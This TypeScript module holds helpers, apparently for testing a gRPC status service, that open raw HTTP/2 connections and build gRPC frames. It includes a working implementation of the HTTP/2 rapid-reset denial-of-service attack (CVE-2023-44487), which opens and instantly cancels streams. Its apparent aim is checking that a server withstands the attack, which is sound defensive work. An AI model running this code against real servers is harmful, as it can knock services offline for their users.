import * as http2 from "node:http2";

/** A raw HTTP/2 connection to a gRPC port, for clients that misbehave on purpose. */
export async function connectHttp2(address: string): Promise<http2.ClientHttp2Session> {
  // Node's client refuses new streams of its own once it buffers more than maxSessionMemory (10 MB).
  const session = http2.connect(`http://${address}`, { maxSessionMemory: 2048 });
  session.on("error", () => {});
  await new Promise<void>((resolve, reject) => {
    session.once("remoteSettings", () => resolve());
    session.once("close", () => reject(new Error(`connection to ${address} closed before its SETTINGS`)));
  });
  return session;
}

/** A gRPC call's request headers. */
export function grpcHeaders(method: string): http2.OutgoingHttpHeaders {
  return {
    ":method": "POST",
    ":path": `/pynenc.status.v1.StatusService/${method}`,
    "content-type": "application/grpc",
    te: "trailers",
  };
}

/** The 5-byte gRPC frame header of a message of `length` bytes. */
export function grpcFrameHeader(length: number): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt32BE(length, 1);
  return header;
}

/** How a stream ended: its trailers' (or trailers-only headers') grpc-status, and its RST_STREAM code. */
export interface StreamEnd {
  readonly grpcStatus: number | undefined;
  readonly rstCode: number | undefined;
}

/** Resolves when the stream closes, with how it ended. */
export function streamEnd(stream: http2.ClientHttp2Stream): Promise<StreamEnd> {
  let grpcStatus: number | undefined;
  const status = (headers: http2.IncomingHttpHeaders) => {
    const value = headers["grpc-status"];
    if (value !== undefined) grpcStatus = Number(value);
  };
  stream.on("response", status);
  stream.on("trailers", status);
  stream.on("error", () => {});
  return new Promise((resolve) => stream.once("close", () => resolve({ grpcStatus, rstCode: stream.rstCode })));
}

/**
 * The rapid-reset attack (CVE-2023-44487) on one new connection: open streams and reset each at
 * once, until the server sends GOAWAY or `maxResets` is reached; the connection is then left open,
 * as an attacker leaves it. Resolves with the session (destroy it to end the attack).
 */
export async function rapidReset(address: string, maxResets: number): Promise<http2.ClientHttp2Session> {
  const session = await connectHttp2(address);
  let goaway = false;
  session.once("goaway", () => (goaway = true));
  for (let i = 0; i < maxResets && !goaway && !session.closed && !session.destroyed; i++) {
    try {
      const stream = session.request(grpcHeaders("Get"));
      stream.on("error", () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
    } catch {
      break;
    }
    // Let frames go out (and GOAWAY come in) now and then.
    if (i % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
  }
  return session;
}
